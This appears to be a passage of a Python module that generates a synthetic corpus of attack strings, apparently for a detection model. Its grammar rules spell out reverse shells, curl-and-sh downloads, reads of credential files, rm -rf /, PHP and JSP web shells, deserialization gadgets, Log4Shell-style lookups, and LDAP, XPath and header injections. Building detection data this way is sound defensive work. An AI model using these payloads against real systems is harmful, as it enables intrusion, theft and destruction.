"""Attacks that make a server run or look up something: shells, interpreters, objects, directories, logs, headers."""

from __future__ import annotations

import base64
from typing import Final

from weirlog.models.corpus.bare_forms import SHELL_FORMS
from weirlog.models.corpus.evasions import SHELL_EVASIONS
from weirlog.models.corpus.grammar import Chance, Grammar, Rules
from weirlog.models.corpus.terminals import TERMINALS
from weirlog.models.corpus.values import LOWER


def _java_object(chance: Chance) -> str:
    """Return the start of a Java object stream, as Base64 or as bytes read as Latin-1."""
    stream = b"\xac\xed\x00\x05sr\x00" + bytes([chance.number(10, 60)]) + b"java.util." + chance.pick(
        (b"HashMap", b"PriorityQueue", b"HashSet")
    ) + chance.randbytes(chance.number(20, 120))  # fmt: skip
    return base64.b64encode(stream).decode() if chance.maybe(0.8) else stream.decode("latin-1")


def _opaque_object(chance: Chance) -> str:
    """Return an object stream whose first bytes alone are telling: of Python, Java, .NET or Ruby, in Base64 or hexadecimal."""
    magic = chance.pick(
        (b"\x80\x04\x95", b"\x80\x03c", b"\x80\x02c", b"\xac\xed\x00\x05", b"\xac\xed\x00\x05sr", b"\x00\x01\x00\x00\x00\xff\xff\xff\xff\x01", b"\x04\x08o:", b"\x80\x05\x95")
    )  # fmt: skip
    if magic[:1] == b"\x80" and magic[2:] == b"\x95":
        magic += bytes([chance.number(20, 120)]) + b"\0" * 7 + b"\x8c"
    stream = magic + chance.randbytes(chance.number(12, 160))
    return base64.b64encode(stream).decode() if chance.maybe(0.7) else stream.hex()


def _pickle(chance: Chance) -> str:
    """Return a pickle of protocol 0 that calls something, as text or in Base64."""
    module, function = chance.pick(
        (("posix", "system"), ("os", "system"), ("nt", "system"), ("os", "popen"), ("subprocess", "Popen"), ("commands", "getoutput"),
         ("subprocess", "check_output"), ("builtins", "eval"), ("__builtin__", "exec"), ("builtins", "exec"), ("pty", "spawn"))
    )  # fmt: skip
    argument = chance.pick((chance.letters(LOWER, 2, 8), "id", "whoami", "/bin/sh", "ls -la", "cat /etc/passwd"))
    mark = chance.pick(("(", "(", "(lp0\n", "p0\n("))
    end = chance.pick(("tR.", "p1\ntp2\nRp3\n.", "tR"))
    body = f"c{module}\n{function}\n{mark}{chance.pick(('S', 'V'))}'{argument}'\n{end}"
    return base64.b64encode(body.encode()).decode() if chance.maybe(0.4) else body


def _looked_up(chance: Chance, word: str) -> str:
    """Return a word some of whose letters are the values of lookups, as a logging library spells them out."""

    def lookup(letter: str) -> str:
        name = chance.letters(LOWER, 0, 6)
        return chance.pick(
            (f"${{lower:{letter}}}", f"${{upper:{letter}}}", f"${{::-{letter}}}", f"${{:-{letter}}}", f"${{date:'{letter}'}}", f"${{env:{name.upper()}:-{letter}}}", f"${{sys:{name}:-{letter}}}",
             f"${{ctx:{name}:-{letter}}}", f"${{k8s:{name}:-{letter}}}", f"${{main:{name}:-{letter}}}", f"${{{name}:{name}:-{letter}}}", f"${{bundle:{name}:-{letter}}}", f"${{java:{name}:-{letter}}}", f"${{map:{name}:-{letter}}}")
        )  # fmt: skip

    share = chance.pick((0.25, 0.5, 1.0, 1.0))
    return "".join(lookup(letter) if chance.maybe(share) else letter for letter in word)


def _php_object(chance: Chance) -> str:
    name = chance.pick(
        (
            "Monolog\\Handler\\SyslogUdpHandler",
            "GuzzleHttp\\Psr7\\FnStream",
            "stdClass",
            "Evil",
            "Example",
            "PDO",
            "SplFileObject",
            "User",
            "Logger",
            "Swift_Mailer",
        )
    )
    field, value = (
        chance.letters(LOWER, 3, 9),
        chance.pick(("system", "phpinfo", "/etc/passwd", "id", "shell.php", "1")),
    )
    return f'O:{len(name)}:"{name}":{chance.number(1, 4)}:{{s:{len(field)}:"{field}";s:{len(value)}:"{value}";}}'


_SHELL: Final[Rules] = {
    "arg": ["/etc/passwd", "/etc/shadow", "-la", "/", "c:\\", "-a", "«word»", "«file»", "/tmp/«word»", "/etc/hosts", "*", "../"],
    "w": [" ", " ", " ", " ", "${IFS}", "$IFS", "$IFS$9", "\t", "%09", "+", "<", "  "],
    "switch": ["-f", "-o", "--file", "--output", "-n", "-x", "/c", "-e"],
    "more": ["nslookup «rnd».«host»", "nslookup «host»", "net user", "net user «word» «word» /add", "net view", "tasklist", "ver", "set", "env", "w", "last", "df -h", "mount", "arp -a", "route print", "wmic process list", "reg query HKLM", "vol", "tree", "host «host»", "traceroute «ip»", "ssh «ip»", "crontab -l", "cat /etc/issue", "sort /etc/passwd", "nl /etc/passwd", "xxd /etc/passwd", "openssl s_client -connect «host»:443", "python3 -c '«word»'", "ruby -e '«word»'", "lua -e 'os.execute(\"id\")'", "socat tcp:«ip»:«nn» exec:sh", "base64 /etc/passwd", "rev /etc/passwd", "dd if=/etc/passwd", "strings /etc/shadow", "getent passwd"],
    "tool": ["«more»", "«more»", "«more»", "«more»", "«more»", "«more»", "«more»", "«more»", "«more»", "«more»", "«more»", "«more»", "«more»", "«more»", "«more»", "«more»", "id", "id", "whoami", "whoami", "ls«w»«arg»", "ls", "ls", "cat«w»«arg»", "cat«w»/etc/passwd", "cat«w»/etc/passwd", "uname -a", "uname", "pwd", "ps aux", "netstat -an", "ifconfig", "ipconfig /all", "dir", "dir c:\\", "type c:\\windows\\win.ini", "type %SYSTEMROOT%\\win.ini", "net user", "systeminfo", "hostname", "printenv",
             "ping -c «small» «ip»", "ping -n «small» «host»", "ping«w»«host»", "sleep«w»«small»", "sleep «small»", "timeout /t «small»", "nslookup «host»", "nslookup«w»«rnd».«host»", "dig «host»", "curl http://«host»/«word»", "curl«w»«host»", "wget http://«ip»/«word».sh", "wget«w»http://«host»/«word» -O /tmp/«word»; sh /tmp/«word»", "curl http://«ip»/x|sh", "nc -e /bin/sh «ip» «nn»", "nc«w»«ip»«w»«nn»",
             "bash -i >& /dev/tcp/«ip»/«nn» 0>&1", "bash -c 'bash -i >& /dev/tcp/«ip»/«nn» 0>&1'", "python -c 'import os;os.system(\"id\")'", "perl -e 'print \"«word»\"'", "php -r 'phpinfo();'", "echo «rnd»", "echo «word»>/tmp/«word»", "echo $((«n»+«n»))", "expr «n» + «n»", "rm -rf /", "rm -rf /tmp/«word»", "del /q «word»", "touch /tmp/«word»", "chmod 777 /tmp/«word»", "cmd /c dir", "cmd.exe /c whoami",
             "powershell -enc «rnd»", "powershell iex(new-object net.webclient).downloadstring('http://«host»/a')", "/bin/cat /etc/passwd", "/usr/bin/id", "/bin/ls -al", "/???/c?t /???/p??s??", "c''at /etc/passwd", "w'h'o'am'i", "who\\ami", "ca\\t /et\\c/pa\\sswd", "c$@at /etc/passwd", "{cat,/etc/passwd}", "cat</etc/passwd", "$(echo d2hvYW1p|base64 -d)", "echo aWQ= | base64 -d | sh", "tac /etc/passwd", "head /etc/passwd", "more /etc/passwd",
             "mail «email» </etc/passwd", "busybox nc «ip» «nn» -e sh", "mkfifo /tmp/f", "xterm -display «ip»:1", "reboot", "shutdown -h now", "kill -9 -1", "wh$()oami", "ls${IFS}-la", "find / -name «word»", "grep root /etc/passwd", "telnet «ip» «nn»", "sh -i", "/bin/sh", "id;uname -a", "cat $HOME/.ssh/id_rsa", "tftp -i «ip» get «word».exe", "certutil -urlcache -f http://«host»/a.exe a.exe", "net localgroup administrators «word» /add", "awk 'BEGIN{system(\"id\")}'"],
    "sep": [";", ";", "; ", "|", "| ", " | ", "||", " || ", "&&", " && ", " & ", "& ", "\n", "%0a", "\r\n", "';", "\";", "'|", "\"|", "';\n", "`", ");", "|&", "';'", ";;", "\u0000;", "%0d%0a", "\"&&", "'&&", "\n\n"],
    "after": ["", "", "", "", "", ";", "#", " #", "|", "&", "'", "\"", ";'", "||", "\n", " &", " ;echo", "%0a", "`", "&&echo «rnd»"],
    "usual": ["«more»", "«more»", "«more»", "id", "whoami", "ls", "cat /etc/passwd", "ls -la", "uname -a", "ping -c «small» «ip»", "curl http://«ip»/«word».sh|sh", "wget http://«host»/«word»", "nc -e /bin/sh «ip» «nn»", "sleep «d»", "dir", "type c:\\boot.ini", "ifconfig", "pwd", "ps -ef", "netstat -an", "nslookup «host»"],
    "joint": [";", "; ", "|", "| ", " | ", "&&", " && ", "||", " & ", "\n"],
    "cmdi": [*["«bare_command»"] * 14, *["«evasion»"] * 12, "«switch» «before»«joint»«usual»", "«switch» /dev/null«joint»«usual»", "«before» «switch» «word»«joint»«usual»", "x «joint»«usual»«joint»", "«word».«word»«joint»«usual»«joint»«word»", "«file»\"«joint»«usual»«joint»\"", "--«word»=$(«usual»)", "«url»«joint»«usual»", "«before»«joint»«usual»", "«before»«joint»«usual»", "«file»«joint»«usual»", "«ip»«joint»«usual»", "«joint»«usual»", "$(«usual»)", "`«usual»`", "«word»`«usual»`", "«before»$(«usual»)", "«before»«joint»«usual»«after»", "«before»«sep»«tool»«after»", "«before»«sep»«tool»«after»", "«before»«sep»«tool»«after»", "«sep»«tool»«after»", "«sep»«tool»«after»", "$(«tool»)", "`«tool»`", "«before»$(«tool»)", "«before»`«tool»`", "«before»'$(«tool»)'", "«before»\"`«tool»`\"", "a;«tool»;a", "«sep»«tool»«sep»«tool»", "() { :;}; /bin/bash -c '«tool»'", "() { :; }; echo; «tool»", "() { _; } >_[$($())] { «tool»; }",
             "/bin/sh -c «tool»", "cmd.exe /c «tool»", "cat /etc/passwd", "/bin/cat /etc/passwd", "<!--«sep»«tool»-->", "«before»«sep»{«tool»}", "@(«tool»)", "system('«tool»')", "exec('«tool»')", "«before»«sep»$(printf '«tool»')", "ping -c «small» 127.0.0.1;«tool»", "«ip»«sep»«tool»", "«ip»«sep»«tool»«after»", "«host»«sep»«tool»", "«before»«sep»eval «tool»", "$(«tool»>/dev/tcp/«ip»/«nn»)", "<(«tool»)", "%0a«tool»%0a", "x=$(«tool»);curl http://«host»/$x", "\\\";«tool»;\\\""],
    "before": ["", "«word»", "«n»", "«ip»", "«host»", "«file»", "«email»", "«small»", "«rnd»", "test", "«word» «word»"],
}  # fmt: skip

_CODE: Final[Rules] = {
    "php": ["«tag»", "«tag»", "«tag»", "<?php «phpcall»; ?>", "<?php «phpcall»;?>", "<?=«phpcall»?>", "<? «phpcall» ?>", "phpinfo()", "phpinfo();", ";«phpcall»;", "';«phpcall»;//", "\";«phpcall»;#", "${«phpcall»}", "{${«phpcall»}}", "«word»');«phpcall»;//", "<?php «phpcall»", "«phpcall»", "'.«phpcall».'", "\".«phpcall».\"", "{${«phpcall»}}\\", "<?php @«phpcall»;", "<script language=\"php\">«phpcall»</script>", "«phpcall»;//", "<% eval request(\"«word»\") %>", "<%@ page import=\"java.io.*\" %><% Runtime.getRuntime().exec(request.getParameter(\"cmd\")); %>"],
    "tag": ["<?=`«shell»`?>", "<?=«phpcall»;", "<?=`$_GET[«d»]`?>", "<?=$_GET[0]($_GET[1])?>", "<?=system(\"«shell»\")?>", "<?=eval($_REQUEST['«word»'])?>", "<?php `«shell»`;", "<? system(«word») ?>"],
    "phpcall": ["«phpfn»(«phpvar»)", "«phpfn»(«phpvar»)", "«phpfn»(«phpvar»)", "«phpfn»(«phpvar»)", "«phpfn»(«phpvar»)", "«phpfn»(«phpvar»)", "«phpfn»(«phpvar»)", "«phpfn»(«phpvar»)", "@«phpfn»(«phpvar»)", "@«phpfn»(«phpvar»)", "echo «phpfn»(«phpvar»)", "echo «phpfn»(«phpvar»)", "die(«phpfn»(«phpvar»))", "$«word»=«phpfn»(«phpvar»)", "if(isset($_GET['«word»'])){«phpfn»(«phpvar»);}", "«phpfn»(«phpfn»(«phpvar»))", "phpinfo()", "system('«shell»')", "system($_GET['«word»'])", "eval($_POST['«word»'])", "eval(base64_decode('«rnd»«rnd»«rnd»'))", "passthru('«shell»')", "shell_exec('«shell»')", "exec('«shell»')", "assert($_REQUEST['«word»'])", "file_get_contents('/etc/passwd')", "print(md5(«n»))", "echo md5('«word»')", "die(md5(«n»))", "readfile('/etc/passwd')", "file_put_contents('«word».php','<?php «word»')",
                "var_dump(«n»*«n»)", "call_user_func('system','«shell»')", "call_user_func_array($_GET[a],$_GET[b])", "create_function('','«shell»')", "preg_replace('/.*/e','system(\"«shell»\")','')", "print(«n»*«n»)", "echo «n»+«n»", "include('http://«host»/a')", "popen('«shell»','r')", "$_GET[0]($_GET[1])", "('sys'.'tem')('«shell»')", "chr(115).chr(121)", "proc_open('«shell»')", "highlight_file('index.php')", "show_source(__FILE__)", "`«shell»`", "print_r(scandir('/'))", "fopen('php://input','r')", "set_time_limit(0)", "error_reporting(0);@eval($_POST[«d»])"],
    "phpfn": ["system", "system", "exec", "passthru", "shell_exec", "eval", "assert", "popen", "proc_open", "pcntl_exec", "include", "require_once", "file_get_contents", "readfile", "unserialize", "print_r", "call_user_func", "highlight_file", "unlink", "scandir"],
    "phpvar": ["$_GET['«word»']", "$_GET[\"«word»\"]", "$_POST[«word»]", "$_POST['cmd']", "$_REQUEST['cmd']", "$_REQUEST[\"«word»\"]", "$_COOKIE[«d»]", "$_SERVER['HTTP_«word»']", "base64_decode('«rnd»«rnd»==')", "base64_decode($_POST['«word»'])", "str_rot13('«word»')", "file_get_contents('php://input')", "'«shell»'", "'«shell»'", "\"«shell»\"", "\"«shell»\"", "'«shell» 2>&1'", "array('«shell»')"],
    "pyfn": ["os.system", "os.popen", "subprocess.call", "subprocess.getoutput", "subprocess.check_output", "subprocess.Popen", "commands.getoutput", "os.execl", "pty.spawn"],
    "pyos": ["system", "popen", "execl", "spawnl", "listdir", "remove"],
    "pyattr": ["environ", "getcwd()", "listdir('/')", "getuid()", "name", "uname()"],
    "pymodule": ["os", "os,sys", "socket", "subprocess", "pty", "shutil"],
    "nodefn": ["exec", "execSync", "spawn", "spawnSync", "execFile", "fork"],
    "fsfn": ["readFileSync", "readdirSync", "createReadStream", "readFile", "unlinkSync"],
    "ruby": ["eval(\"`«shell»`\")", "Kernel.system('«shell»')", "open(\"|«shell»\").read", "send(:system,\"«shell»\")", "IO.popen([\"«shell»\"]).read", "exec \"«shell»\"", "Process.spawn('«shell»')", "ERB.new(\"<%= `«shell»` %>\").result", "File.read('/etc/passwd')", "Dir.entries('/')", "print `«shell»`", "system('«shell»');", "open(F,'«shell»|');print <F>;", "eval{system('«shell»')}", "qx(«shell»)", "`«shell»`.split"],
    "shell": ["sleep «d»", "ping -c «d» «ip»", "nc «ip» «nn»", "cat /etc/shadow", "env", "hostname", "netstat -an", "touch /tmp/«word»", "curl «host»", "bash -c id", "ls /", "ifconfig", "id;whoami", "calc.exe", "cmd /c dir", "ps aux", "rm -rf /tmp/«word»", "id", "ls", "whoami", "cat /etc/passwd", "uname -a", "ls -la", "dir", "wget http://«host»/a"],
    "java_runtime": ["Runtime.getRuntime()", "java.lang.Runtime.getRuntime()", "T(java.lang.Runtime).getRuntime()", "@java.lang.Runtime@getRuntime()", "Class.forName(\"java.lang.Runtime\").getRuntime()", "''.getClass().forName('java.lang.Runtime').getRuntime()", "rt"],
    "java_command": ["\"«shell»\"", "'«shell»'", "new String[]{\"sh\",\"-c\",\"«shell»\"}", "new java.lang.String[]{\"sh\",\"-c\",\"«shell»\"}", "new java.lang.String[]{\"/bin/bash\", \"-c\", \"«shell»\"}", "new String[]{\"cmd\",\"/c\",\"«shell»\"}", "\"«shell»\".split(\" \")", "new String[] { \"«shell»\" }", "java.util.Arrays.asList(\"sh\", \"-c\", \"«shell»\")", "request.getParameter(\"«word»\")", "{\"«shell»\"}"],
    "java_run": ["«java_runtime».exec(«java_command»)", "«java_runtime».exec(«java_command»)", "new ProcessBuilder(«java_command»).start()", "new java.lang.ProcessBuilder(«java_command»).start()", "(new java.lang.ProcessBuilder(«java_command»)).start()", "«java_runtime».exec(«java_command»).getInputStream()", "«java_runtime».exec(«java_command»).waitFor()", "new javax.script.ScriptEngineManager().getEngineByName(\"«script»\").eval(\"«word»\")", "java.lang.Runtime.getRuntime().halt(«d»)", "java.lang.Thread.sleep(«n»)", "java.lang.System.getenv(\"PATH\")", "java.lang.System.getProperty(\"user.dir\")", "new java.io.FileInputStream(\"/etc/passwd\")", "new java.net.URL(\"http://«host»/\").openStream()"],
    "script": ["js", "nashorn", "JavaScript", "groovy"],
    "java_shape": ["«java_run»", "«java_run»", "«java_run»", "«java_run»;", "${«java_run»}", "%{«java_run»}", "#{«java_run»}", "*{«java_run»}", "<%= «java_run» %>", "<% «java_run»; %>", "#set($«word»=«java_run»)", "';«java_run»;//", "\"+«java_run»+\"", "__${«java_run»}__::.x", "#this.«java_run»", "(«java_run»)(#«word»)"],
    "java": [*["«java_shape»"] * 10, "new ProcessBuilder(\"«shell»\").start()", "Runtime.getRuntime().exec(new String[]{\"sh\",\"-c\",\"«shell»\"})", "Runtime.getRuntime().exec(\"«shell»\")", "${T(java.lang.Runtime).getRuntime().exec(\"«shell»\")}", "(new java.util.Scanner(Runtime.getRuntime().exec(\"«shell»\").getInputStream())).next()", "java.lang.System.exit(«d»)", "Class.forName(\"java.lang.Runtime\").getMethod(\"exec\",String.class)", "T(java.lang.System).getenv()", "new String(java.nio.file.Files.readAllBytes(java.nio.file.Paths.get('/etc/passwd')))", "%{(#_memberAccess=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#cmd='«shell»').(@java.lang.Runtime@getRuntime().exec(#cmd))}", "%{«math»}", "${@java.lang.Runtime@getRuntime().exec('«shell»')}", "T(java.lang.Runtime).getRuntime().exec('«shell»')", "new java.lang.ProcessBuilder({'«shell»'}).start()", "java.lang.Runtime.getRuntime().exec(\"«shell»\")", "#a=@java.lang.Runtime@getRuntime().exec('«shell»')",
             "redirect:${#context['xwork.MethodAccessor.denyMethodExecution']}", "redirectAction:%{«math»}", "class.module.classLoader.resources.context.parent.pipeline.first.pattern=%{c2}i", "new javax.script.ScriptEngineManager().getEngineByName('js').eval('«word»')", "''.getClass().forName('java.lang.Runtime').getMethods()[«d»].invoke(null,'«shell»')", "${class.getClassLoader()}", "@java.lang.System@getProperty('user.dir')", "%{#context['com.opensymphony.xwork2.dispatcher.HttpServletResponse'].addHeader('«word»',«n»)}", "${script:javascript:java.lang.Runtime.getRuntime().exec('«shell»')}", "${url:UTF-8:http://«host»/}", "${dns:address|«host»}", "groovy.lang.GroovyShell", "\"«shell»\".execute().text", "Runtime.getRuntime().exec('«shell»').waitFor()", "(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)", "action:%{#a=(new java.lang.ProcessBuilder(new java.lang.String[]{'«shell»'})).start()}"],
    "node": ["require('child_process').«nodefn»('«shell»')", "require(\"child_process\").«nodefn»(\"«shell»\")", "global.process.mainModule.require('child_process').«nodefn»(\"«shell»\")", "new Function(\"return process\")().mainModule.require('fs')", "process.kill(process.pid)", "eval(\"process.exit()\")", "require('fs').«fsfn»('/etc/passwd')", "res.send(require('fs').«fsfn»('.'))", "(() => { require('child_process').«nodefn»('«shell»') })()", "[].constructor.constructor('return process')()", "{\"__proto__\":{\"«word»\":«d»}}", "constructor[prototype][«word»]=«word»", "__proto__.«word»=«word»", "require('child_process').exec('«shell»')", "require(\"child_process\").execSync(\"«shell»\").toString()", "process.mainModule.require('child_process').execSync('«shell»')", "global.process.mainModule.require('fs').readFileSync('/etc/passwd')", "';require('child_process').exec('«shell»');//", "res.end(require('fs').readdirSync('.').toString())", "process.exit()", "this.constructor.constructor('return process')().env", "eval(\"require('child_process')\")", "{\"__proto__\":{\"admin\":true}}", "{\"__proto__\":{\"«word»\":\"«word»\"}}", "constructor.prototype.«word»=«d»", "__proto__[«word»]=«word»", "{\"constructor\":{\"prototype\":{\"isAdmin\":true}}}", "process.binding('spawn_sync')", "global.process.env.«word»", "(function(){while(1){}})()", "import('child_process').then(x=>x.exec('«shell»'))", "console.log(process.env);", "vm.runInNewContext('«shell»')", "require('http').get('http://«host»')"],
    "python": ["__import__('os').«pyos»('«shell»')", "__import__(\"os\").«pyos»(\"«shell»\")", "__import__('os').«pyattr»", "import os;«pyfn»('«shell»')", "import subprocess;«pyfn»(\"«shell»\")", "«pyfn»(\"«shell»\")", "«pyfn»('«shell»',shell=True)", "eval(\"«pyfn»('«shell»')\")", "exec(\"import os\")", "exec('import «pymodule»')", "exec(\"import os; print(os.«pyattr»)\")", "print(__import__('os').«pyattr»)", "[x for x in ().__class__.__base__.__subclasses__()]", "__builtins__.__import__('os').«pyos»('«shell»')", "globals().get('__builtins__').open('/etc/passwd')", "(lambda: __import__('os').«pyos»('«shell»'))()", "';import os;os.«pyos»('«shell»');'", "compile('«pyfn»(\"«shell»\")','','exec')", "«ruby»", "«ruby»", "«ruby»", "«ruby»", "__import__(\"subprocess\").check_output([\"«shell»\"])", "__import__('subprocess').getoutput('«shell»')", "__import__('subprocess').Popen('«shell»',shell=True)", "subprocess.check_output('«shell»',shell=True)", "import socket,subprocess;s=socket.socket();s.connect(('«ip»',«nn»))", "eval(\"__import__('os').popen('«shell»').read()\")", "getattr(__import__('os'),'system')('«shell»')", "globals()['__builtins__']['eval']('«math»')", "exec(\"\"\"«word»\"\"\")", "open('/etc/shadow','r').readlines()", "spawn('/bin/sh')", "pty.spawn('/bin/sh')", "%x(«shell»)", "Open3.capture2('«shell»')", "io.popen('«shell»'):read('*a')", "os.execute('«shell»')", "__import__('os').system('«shell»')", "__import__('os').popen('«shell»').read()", "eval(compile('import os;os.system(\"«shell»\")','a','exec'))", "exec('import os;os.system(\"«shell»\")')", "open('/etc/passwd').read()", "import os; os.system('«shell»')", "import subprocess;subprocess.call(['«shell»'])", "().__class__.__bases__[0].__subclasses__()", "str(__import__('time').sleep(«d»))", "os.system('«shell»')", "Kernel.exec('«shell»')", "IO.popen('«shell»').read", "system(\"«shell»\")", "`«shell»`.to_s", "eval('«math»')", "print(open('/etc/passwd').read())", "${@print(md5(«word»))}", "'+__import__('os').popen('«shell»').read()+'", "gettattr(__builtins__,'ev'+'al')('«math»')", "use POSIX; system('«shell»')"],
    "math": ["«d»*«d»", "«nn»*«nn»", "7*7", "1+1"],
    "code": ["«php»", "«php»", "«java»", "«node»", "«python»", "«dispatched»"],
    "dispatched": ["«noun»/«noun»\\«noun»/«reflective»", "\\«noun»\\«noun»\\«reflective»&«reflective»[0]=system&vars[1][]=«shell»", "function=«reflective»&vars[0]=system&vars[1][]=id", "«reflective»&function=system&args=«shell»", "_method=__construct&filter[]=system&method=get&get[]=«shell»", "class.module.classLoader.«noun»=«word»", "class.module.classLoader.resources.context.parent.pipeline.first.«noun»=«word»", "method:%23_memberAccess%3d@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS"],
    "reflective": ["invokefunction", "call_user_func_array", "call_user_func", "invokeMethod", "display", "driver"],
    "gadget": ["java.lang.ProcessBuilder", "java.lang.Runtime", "javax.naming.InitialContext", "javax.script.ScriptEngineManager", "com.sun.rowset.JdbcRowSetImpl", "java.net.URLClassLoader", "java.util.PriorityQueue", "java.beans.EventHandler", "org.apache.commons.collections.functors.InvokerTransformer", "ch.qos.logback.core.db.DriverManagerConnectionSource", "org.apache.xbean.propertyeditor.JndiConverter", "com.mchange.v2.c3p0.JndiRefForwardingDataSource", "Gem::Requirement", "ERB", "System.Diagnostics.Process", "java.net.URL"],
    "java_object": _java_object,
    "pickle": _pickle,
    "opaque_object": _opaque_object,
    "php_object": _php_object,
    "deserialization": ["«opaque_object»", "«opaque_object»", "«opaque_object»", "«opaque_object»", "«opaque_object»", "«opaque_object»", "«opaque_object»", "«opaque_object»", "«java_object»", "«java_object»", "«java_object»", "«java_object»", "«java_object»", "«java_object»", "«pickle»", "«php_object»", "«php_object»", "a:1:{i:0;«php_object»}", "{\"rce\":\"_$$ND_FUNC$$_function(){require('child_process').exec('«shell»')}()\"}", "{\"«word»\":\"_$$ND_FUNC$$_function (){«word»()}()\"}", "_$$ND_FUNC$$_function(){return «n»}()", "{\"@class\":\"«gadget»\"}", "{\"@class\":\"«gadget»\",\"«word»\":\"«word»\"}", "{\"@type\":\"«gadget»\",\"«word»\":\"«word»\"}", "[\"«gadget»\",{\"«word»\":\"«host»\"}]", "!!«gadget» [«n»]", "!!python/object/apply:«pyfn» [\"«shell»\"]", "!!python/name:os.«pyos»", "!!python/module:«word»", "!ruby/object:«gadget» {}", "!<tag:yaml.org,2002:python/object/apply:«pyfn»> ['«shell»']", "!!python/object/apply:os.system [\"«shell»\"]", "!!python/object/new:subprocess.Popen [[«shell»]]", "--- !ruby/object:Gem::Installer\ni: x", "--- !ruby/object:Gem::Requirement\nrequirements:", "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://«host»/\"]]]]",
                        "{\"@type\":\"com.sun.rowset.JdbcRowSetImpl\",\"dataSourceName\":\"rmi://«host»/«word»\",\"autoCommit\":true}", "{\"@type\":\"java.net.Inet4Address\",\"val\":\"«host»\"}", "[\"org.springframework.context.support.ClassPathXmlApplicationContext\",\"http://«host»/a.xml\"]", "AAEAAAD/////AQAAAAAAAAAMAgAAAF9TeXN0ZW0u«rnd»«rnd»", "{\"$type\":\"System.Windows.Data.ObjectDataProvider, PresentationFramework\",\"MethodName\":\"Start\"}", "<java><object class=\"java.lang.ProcessBuilder\"><array class=\"java.lang.String\" length=\"1\"><void index=\"0\"><string>«shell»</string></void></array><void method=\"start\"/></object></java>", "<sorted-set><dynamic-proxy><interface>java.lang.Comparable</interface><handler class=\"java.beans.EventHandler\"><target class=\"java.lang.ProcessBuilder\"/></handler></dynamic-proxy></sorted-set>", "C:«small»:\"«word»\":«n»:{«word»}"],
}  # fmt: skip

_DIRECTORIES: Final[Rules] = {
    "attribute": ["uid", "cn", "objectClass", "userPassword", "mail", "user", "sn", "«noun»", "memberOf", "givenName"],
    "ldapi": ["*)(«attribute»=*", "*)(«attribute»=*))(|(«attribute»=*", "*))(|(«attribute»=*", "«word»)(&)", "«word»)(|(«attribute»=*)", "*)(|(«attribute»=*)", "admin)(&(«attribute»=*", "*)(&(«attribute»=«word»", "*))%00", "«word»*)(«attribute»=*))(&(«attribute»=*", "(|(«attribute»=*)(«attribute»=*))", ")(«attribute»=*))(|(«attribute»=*", "«word»)(!(&(1=0", "admin))(|(|", "*)(objectClass=*))(&(objectClass=void", "x)(«attribute»=*))(|(x=x",
              "*(|(«attribute»=*))", "*)(«attribute»>=0)", "«word»)(«attribute»=\\2a", "%2a%29%28«attribute»=%2a", "«word»)(|(password=*))", "*)((|«attribute»=*", "*))(«attribute»=*", "«word»*))(|(«attribute»=«d»*", "admin*)((|userPassword=*)"],
    "xpath": ["1 or count(«xaxis»)=«d»", "«n» or count(«xaxis»)>«d»", "' or count(«xaxis»)=«d» or '1'='2", "' or «xaxis»/text()='«word»", "\" or «xaxis»=\"«word»", "«word»' or contains(.,'«word»') or '", "'] | «xaxis» | //«noun»['", "«word»']/«xaxis»/text() | //«noun»['", "1] | «xaxis»/text() | /«noun»[1", "' or string-length(name(«xaxis»))=«d» or 'a'='b", "substring(«xaxis»/text(),1,1)='«d»'", "' or true() or '", "\" or true() or \"", "«n» or true()", "not(1=2) or '«word»'", "' or '«d»'='«d»' or ''='", "' or name()='«word»' or '1'='2", "x' or name()='username' or 'x'='y", "'] | //*['", "'] | //user/*[contains(*,'", "' or count(/*)=«d» or '", "' and count(/«noun»/child::node())=«d» and '1'='1", "' or substring(name(/*[1]),1,1)='«d»' or '", "' or string-length(//«noun»[«d»]/«noun»)>«small» or '", "'] | //password | a['", "*[contains(«noun»,'«word»')] or 1=1", "admin' or '1'='1' or 'a'='a", "')] | //«noun»[contains('", "//*|//@*",
              "1 or count(//*)>0", "' or //user[position()=«d»]/name='«word»' or '", "'] /*[position()=1]|//*['", "' and doc('http://«host»/')/* and '1'='1", "x'] or 1=1 or x['", "' or starts-with(//«noun»/text(),'«d»') or '1'='2", "string(//user[name/text()='«word»' and password/text()='«word»'])", "' or contains(name,'«word»') or '' = '", "'] | //node()[('')=('", "' or ancestor::*[1] or '"],
    "xaxis": ["parent::*", "/*", "//*", "child::node()", "../*", "//user", "/*[1]/*[«d»]", "ancestor-or-self::*", "following::*", "preceding-sibling::node()", "//password", "self::node()", "/child::node()[position()=«d»]", "//@*", "attribute::*"],
    "mail": ["bcc: «email»", "Bcc: «email»,«email»", "Cc: «email»", "To: «email»", "Subject: «word» «word»", "Reply-To: «email»", "Content-Type: text/html", "From: «email»", "MIME-Version: 1.0", "\n\n«sentence»", "RCPT TO:<«email»>", "DATA"],
    "newline": ["\r\n", "\r\n", "\r\n", "\n", "\n", "\n", "%0d%0a", "%0D%0A", "%0a", "%0d", "\\r\\n", "%250d%250a", "\r", "%23%0d%0a", "%3f%0d%0a", "\r", "#\r\n", "\\n", "\\r\\n", "\r\n\t"],
    "header": ["Location: //«host»", "Location: //«host»/«word»", "X-«word»:«d»", "«word»-«word»: «word»", "Set-Cookie: «word»=«rnd»", "Set-Cookie:«word»=«word»;", "Location: http://«host»", "Location:http://«host»/", "X-«word»: «word»", "Content-Length: 0«newline»«newline»HTTP/1.1 200 OK", "Content-Type: text/html«newline»«newline»<script>alert(«d»)</script>", "Host: «host»", "«newline»<html>«word»</html>", "Content-Length: 0", "HTTP/1.1 200 OK«newline»Content-Type: text/html", "X-XSS-Protection: 0", "Refresh: 0;url=http://«host»", "Access-Control-Allow-Origin: *", "bcc: «email»", "Bcc:«email»«newline»", "To: «email»", "Cc: «email»", "Transfer-Encoding: chunked", "GET /admin HTTP/1.1«newline»Host: localhost", "Link: <http://«host»>; rel=preload"],
    "smuggled": ["«method» /«word» HTTP/1.1\r\nHost: «host»", "«method» /«word» HTTP/1.1\r\nX-«word»: «word»", "HTTP/1.1 200 OK\r\nContent-Type: text/html\r\n\r\n<«noun»>«word»"],
    "method": ["GET", "POST", "HEAD", "DELETE"],
